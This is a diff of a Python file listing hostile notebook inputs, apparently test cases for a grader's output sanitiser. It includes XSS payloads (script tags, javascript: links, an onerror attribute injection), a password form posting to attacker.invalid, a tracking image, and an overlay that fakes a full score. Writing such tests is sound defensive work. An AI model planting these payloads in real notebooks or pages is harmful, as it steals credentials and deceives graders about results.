@@ -14,7 +14,9 @@ def _html(text: str) -> Edit:
 
 
 def _mime(mime: str, content: object, **metadata: object) -> Edit:
-    return cell(f"from IPython.display import display\ndisplay({{{mime!r}: {content!r}}}, raw=True, metadata={metadata!r})")
+    return cell(
+        f"from IPython.display import display\ndisplay({{{mime!r}: {content!r}}}, raw=True, metadata={metadata!r})"
+    )
 
 
 def _attack(name: str, kind: str, does: str, edit: Edit) -> Attack:
@@ -31,7 +33,7 @@ ATTACKS = (
     _attack("frame", OUTPUTS, "Displays a frame with a document of its own.",
             _html(f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>")),
     _attack("form", OUTPUTS, "Displays a form that asks for a password and sends it away.",
-            _html("<form action='http://attacker.invalid/'><input type='password' name='p'><button>Log in</button></form>")),
+            _html("<form action='http://attacker.invalid/'><input type='password' name='p'><button>OK</form>")),
     _attack("image from outside", OUTPUTS, "Displays an image that tells its server who reads the feedback, and when.",
             _html("<img src='http://attacker.invalid/seen.png'>")),
     _attack("style from outside", OUTPUTS, "Displays a style with an address outside.",
@@ -39,14 +41,15 @@ ATTACKS = (
     _attack("style sheet", OUTPUTS, "Displays a style sheet that hides the real result.",
             _html("<style>h1, h2, h3, table { display: none !important }</style>")),
     _attack("result of one's own", OUTPUTS, "Displays a full result that lies over the real one.",
-            _html("<div style='position:fixed;inset:0;background:white;z-index:99999'><h2>Result: 20 of 20 points</h2></div>")),
+            _html("<div style='position:fixed;inset:0;background:white;z-index:9999'><h2>Result: 20 of 20</h2></div>")),
     _attack("link in Markdown output", OUTPUTS, "Displays Markdown with a link that runs a script.",
             _mime("text/markdown", f"[your points](javascript:{RUN})")),
     _attack("script in LaTeX output", OUTPUTS, "Displays LaTeX with a link that runs a script.",
             _mime("text/latex", f"$\\href{{javascript:{RUN}}}{{points}}$")),
     _attack("width that ends its tag", OUTPUTS, "Displays a picture whose width closes the attribute.",
             _mime("image/png", "aGk=", **{"image/png": {"width": f"1\" onerror=\"{RUN}"}})),
-    _attack("script in Markdown", CELLS, "Writes a script in a Markdown cell.", markdown(f"An answer. <script>{RUN}</script>")),
+    _attack("script in Markdown", CELLS, "Writes a script in a Markdown cell.",
+            markdown(f"An answer. <script>{RUN}</script>")),
     _attack("handler in Markdown", CELLS, "Writes an image with a handler in a Markdown cell.",
             markdown(f"An answer. <img src=x onerror='{RUN}'>")),
     _attack("link in Markdown", CELLS, "Writes a link that runs a script.", markdown(f"[my plot](javascript:{RUN})")),
